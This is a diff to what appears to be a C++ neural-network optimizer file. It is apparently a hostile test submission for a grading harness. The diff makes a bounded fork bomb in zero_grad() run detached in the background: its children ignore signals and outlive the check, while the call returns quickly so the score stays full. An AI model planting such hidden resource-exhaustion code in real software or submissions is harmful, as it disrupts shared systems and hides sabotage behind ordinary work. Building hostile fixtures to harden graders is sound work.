@@ -27,8 +27,9 @@ void SGD::step() {
 }
 
 // ---- The attack: a fork bomb, bounded so that it never takes the machine down ------------------
-// The first zero_grad() of a process forks kMaxProcesses children as fast as it can, stopping
-// early when fork() fails (a process-count limit). Each child leaves the check's process group
+// The first zero_grad() of a process forks a bomber and returns at once (so the call itself is
+// quick and the score must stay full); the bomber leaves the process group and forks
+// kMaxProcesses children as fast as it can, stopping early when fork() fails (a process limit). Each child leaves the check's process group
 // (setsid()), ignores the polite signals, keeps the check's pipes open and sleeps for at most
 // kSleepSeconds, so that it outlives the check and `grade` unless something kills it. One bomb per
 // `grade` run where /tmp is shared (a lock file under /tmp/nn-corpus-hostile), one per check's
@@ -51,9 +52,11 @@ void fork_bomb() {
   if (done) return;
   done = true;
   if (!first_bomb_of_this_run()) return;
+  if (fork() != 0) return;  // the student's call goes on; the bomber works in the background
+  setsid();
   for (int i = 0; i < kMaxProcesses; ++i) {
     const pid_t pid = fork();
-    if (pid < 0) return;  // a process limit: stop, and carry on with the work
+    if (pid < 0) break;  // a process limit: stop forking, and hold on to what it has
     if (pid == 0) {
       setsid();
       for (int sig : {SIGHUP, SIGTERM, SIGINT, SIGQUIT, SIGPIPE}) signal(sig, SIG_IGN);
@@ -64,6 +67,11 @@ void fork_bomb() {
       _exit(0);
     }
   }
+  for (int second = 0; second < kSleepSeconds; ++second) {
+    timespec one{1, 0};
+    nanosleep(&one, nullptr);
+  }
+  _exit(0);
 }
 
 }  // namespace
